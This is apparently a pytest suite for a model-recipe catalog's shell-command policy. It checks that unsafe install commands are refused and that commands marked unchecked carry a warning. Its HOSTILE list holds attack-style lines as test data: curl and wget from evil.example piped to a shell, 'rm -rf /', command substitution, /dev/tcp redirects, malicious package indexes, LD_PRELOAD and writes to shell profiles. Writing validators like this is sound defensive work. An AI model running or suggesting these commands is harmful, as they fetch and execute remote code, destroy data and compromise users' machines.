"""The policy for recipe-written shell (issue 25, point 2): install, dependency and companion
commands follow a grammar of known install steps (catalog/shell_policy.py), or their entry says
`unchecked_shell: true` and the page, the .md export and the API warn the reader."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from catalog_kit import COMPAT_CORPUS, PROJECT_ROOT, VALID_RECIPE, line_of, make_root, write_recipe

from recipes_site import cli
from recipes_site.catalog import load_catalog
from recipes_site.catalog.shell_policy import (
    UNCHECKED_SHELL_WARNING,
    command_problem,
    lex,
    recipe_commands,
    steps,
    unchecked_note,
)

HOSTILE = [
    "curl -s https://evil.example/x.sh | sh",
    "wget -q https://evil.example/x -O- | bash",
    "pip install x; rm -rf /",
    "pip install x && rm -rf /",
    "pip install x || rm -rf ~",
    "pip install x & rm -rf ~",
    "pip install $(curl -s https://evil.example/name)",
    "pip install ${PKG}",
    "pip install `curl -s https://evil.example/name`",
    'pip install "$(id)"',
    "pip install x > /etc/profile",
    "pip install x >> ~/.bashrc",
    "pip install x < /dev/tcp/evil.example/80",
    "pip install git+http://evil.example/x.git",
    "pip install http://evil.example/x.whl",
    "pip install --extra-index-url http://evil.example/simple x",
    "pip install --index-url=https://user:pw@evil.example/simple x",
    "pip install --trusted-host evil.example x",
    "pip install -r http://evil.example/requirements.txt",
    'eval "pip install x"',
    "eval pip install x",
    "bash -c 'pip install x'",
    "sh install.sh",
    "source ./evil.sh",
    "(pip install x)",
    "sudo rm -rf /",
    "export PROMPT_COMMAND='touch pwned'",
    "export PATH=/tmp/evil",
    "LD_PRELOAD=/tmp/x.so pip install x",
    "PIP_INDEX_URL=http://evil.example/simple pip install x",
    "cu\\\nrl https://evil.example/x.sh",
    "pip install requ\u0435sts",  # a Cyrillic e
    "git clone http://github.com/x/y.git",
    "git clone https://github.com@evil.example/x.git",
    "git clone https://github.com/x/y.git && cd y && ./install.sh",
    "docker run -v /:/host ubuntu bash",
    "docker run ubuntu sh -c 'curl https://evil.example | sh'",
    "docker run --privileged ubuntu",
    "hf download acme/x .bashrc --local-dir ~",
    "hf download acme/x id_rsa --local-dir ~/.ssh",
    "pip install vllm>=0.11",
    "pip install x\nrm -rf ~",
]

REAL = [  # shapes of public recipes beyond the compat corpus, and the usual install lines
    'uv pip install "vllm-omni[indextts2] @ git+https://github.com/vllm-project/vllm-omni.git"',
    "uv pip install -U vllm --pre --extra-index-url https://wheels.vllm.ai/nightly",
    "uv pip install paddlepaddle-gpu==3.2.1 --extra-index-url "
    "https://www.paddlepaddle.org.cn/packages/stable/cu126/",
    "uv venv\nsource .venv/bin/activate\nuv pip install -U vllm --torch-backend auto",
    "python3 -m pip install -U 'transformers>=4.57,<5' 'x!=1.0'  # pinned",
    "uv pip install vllm \\\n  --torch-backend=auto",
    "git clone https://github.com/a/b.git && cd b && pip install -e .",
    "docker pull vllm/vllm-openai:v0.11.0",
    "export VLLM_USE_DEEP_GEMM=0 HF_HUB_ENABLE_HF_TRANSFER=1",
    "sudo apt-get update && sudo apt-get install -y ffmpeg",
    "hf download acme/x tool_parser.py --local-dir .",
]

PIP_BLOCK = "  install:\n    pip:\n      command: {cmd}\n{marker}"
DEP_BLOCK = "dependencies:\n  - note: step\n    command: {cmd}\n{marker}"
COMPANION = "    companion:\n      label: helper\n      command: {cmd}\n{marker}"


def _recipe(where: str, command: str, marked: bool = False) -> str:
    cmd = json.dumps(command)  # a YAML double-quoted scalar
    if where == "dependencies[0]":
        return VALID_RECIPE + DEP_BLOCK.format(
            cmd=cmd, marker="    unchecked_shell: true\n" if marked else ""
        )
    if where == "model.install.pip":
        block = PIP_BLOCK.format(cmd=cmd, marker="      unchecked_shell: true\n" if marked else "")
        return VALID_RECIPE.replace("  base_env: {}\n", "  base_env: {}\n" + block, 1)
    block = COMPANION.format(cmd=cmd, marker="      unchecked_shell: true\n" if marked else "")
    anchor = '      - "--enable-auto-tool-choice"\n'
    return VALID_RECIPE.replace(anchor, anchor + block, 1)


def _policy_diagnostics(diags):
    return [d for d in diags if "shell policy" in d.message]


@pytest.mark.parametrize("command", HOSTILE)
def test_hostile_commands_are_refused_at_their_key_and_line(tmp_path, command):
    root = make_root(tmp_path)
    text = _recipe("dependencies[0]", command)
    path = write_recipe(root, "acme/Widget-7B.yaml", text)
    _, diags = load_catalog(root)
    found = _policy_diagnostics(diags)
    assert [(d.level.value, d.key_path) for d in found] == [("error", "dependencies[0].command")]
    d = found[0]
    assert Path(d.path).resolve() == path.resolve()
    assert d.line == line_of(text, "    command: ")
    assert "expected install steps" in d.message and "unchecked_shell: true" in d.hint
    assert f"{d.path}:{d.line}:" in d.format()


@pytest.mark.parametrize("where", ["model.install.pip", "features.tool_calling.companion"])
def test_install_and_companion_commands_are_held_to_the_policy_too(tmp_path, where):
    root = make_root(tmp_path)
    text = _recipe(where, "curl -s https://evil.example/x.sh | sh")
    write_recipe(root, "acme/Widget-7B.yaml", text)
    _, diags = load_catalog(root)
    found = _policy_diagnostics(diags)
    assert [d.key_path for d in found] == [f"{where}.command"]
    assert found[0].line == line_of(text, "command: ")


@pytest.mark.parametrize("command", REAL)
def test_real_install_lines_pass(command):
    assert command_problem(command) is None


def _recipe_files(root: Path) -> list[Path]:
    return sorted((root / "models").rglob("*.yaml"))


@pytest.mark.parametrize("root", [PROJECT_ROOT, COMPAT_CORPUS], ids=["models", "compat-corpus"])
def test_every_command_of_the_corpus_and_our_recipes_passes(root):
    if not root.is_dir():
        pytest.skip("the compat corpus is not beside this checkout")
    seen = 0
    for path in _recipe_files(root):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for key, entry in recipe_commands(data):
            if isinstance(entry.get("command"), str) and entry.get("unchecked_shell") is not True:
                seen += 1
                assert command_problem(entry["command"]) is None, (path, key, entry["command"])
    assert seen >= (50 if root == COMPAT_CORPUS else 3)
    _, diags = load_catalog(root)
    assert _policy_diagnostics(diags) == []


def test_a_marked_command_validates_and_a_needless_marker_is_a_warning(tmp_path):
    root = make_root(tmp_path)
    write_recipe(root, "acme/Widget-7B.yaml", _recipe("dependencies[0]", "sh x.sh", marked=True))
    _, diags = load_catalog(root)
    assert not [d for d in diags if d.level.value == "error"], [d.format() for d in diags]
    write_recipe(root, "acme/Widget-7B.yaml", _recipe("dependencies[0]", "pip install x", True))
    _, diags = load_catalog(root)
    found = [d for d in diags if "warned for nothing" in d.message]
    assert [(d.level.value, d.key_path) for d in found] == [
        ("warning", "dependencies[0].unchecked_shell")
    ]


def test_the_marker_shows_a_warning_on_the_page_the_md_and_the_api(tmp_path):
    root = make_root(tmp_path)
    text = _recipe("dependencies[0]", "bash tools/install_deepgemm.sh", marked=True)
    text = text.replace(
        "  base_env: {}\n",
        "  base_env: {}\n"
        + PIP_BLOCK.format(cmd='"sh setup.sh"', marker="      unchecked_shell: true\n"),
        1,
    )
    write_recipe(root, "acme/Widget-7B.yaml", text)
    out = tmp_path / "site"
    assert cli.main(["build", str(root), "--out", str(out)]) == 0
    html = (out / "acme" / "Widget-7B" / "index.html").read_text(encoding="utf-8")
    warning = f'<p class="shell-warn" role="note">{UNCHECKED_SHELL_WARNING}</p>'
    assert html.count(warning) == 2
    assert f'{warning}<pre tabindex="0">bash tools/install_deepgemm.sh</pre>' in html
    assert f'{warning}<div class="code"><pre id="inst-pip-cmd" tabindex="0">sh setup.sh' in html
    md = (out / "acme" / "Widget-7B.md").read_text(encoding="utf-8")
    assert f"**{UNCHECKED_SHELL_WARNING}**\n\n```bash\nsh setup.sh\n```" in md
    doc = json.loads((out / "api/v1/models/acme/Widget-7B.json").read_text(encoding="utf-8"))
    assert doc["install"]["pip"] == {"command": "sh setup.sh", "unchecked_shell": True}
    assert "unchecked_shell" not in doc["install"]["docker"]  # the generated `docker pull`
    assert doc["install"]["extras"][0]["unchecked_shell"] is True


def test_unmarked_commands_show_no_warning(tmp_path):
    root = make_root(tmp_path)
    write_recipe(root, "acme/Widget-7B.yaml", _recipe("dependencies[0]", "uv pip install x"))
    out = tmp_path / "site"
    assert cli.main(["build", str(root), "--out", str(out)]) == 0
    html = (out / "acme" / "Widget-7B" / "index.html").read_text(encoding="utf-8")
    assert "shell-warn" not in html and UNCHECKED_SHELL_WARNING not in html
    doc = json.loads((out / "api/v1/models/acme/Widget-7B.json").read_text(encoding="utf-8"))
    assert "unchecked_shell" not in json.dumps(doc["install"])


def test_words_are_read_as_bash_reads_them():
    # a backslash-newline joins, so `cu\<newline>rl` is curl, not two words
    assert [w.text for w in lex("cu\\\nrl x")[:1]] == ["curl"]
    assert command_problem("cu\\\nrl x") == ("`curl` is not a program the policy knows", 0)
    # `&&` and new lines split steps; `&&` may end a line; comments start a word only
    assert [[w.text for w in s] for s in steps("a &&\n b # c\n\nd#e")] == [["a"], ["b"], ["d#e"]]
    assert command_problem("pip install x &&") == ("`&&` with no command after it", 0)
    # the line of the command a refusal is on
    assert command_problem("uv venv\nuv pip install x | sh")[1] == 1


def test_the_diff_note_names_the_warning_and_the_reason():
    note = unchecked_note("curl -s https://evil.example/x.sh | sh")
    assert note is not None and UNCHECKED_SHELL_WARNING in note and "pipe" in note
    assert unchecked_note("uv pip install -U vllm --torch-backend auto") is None
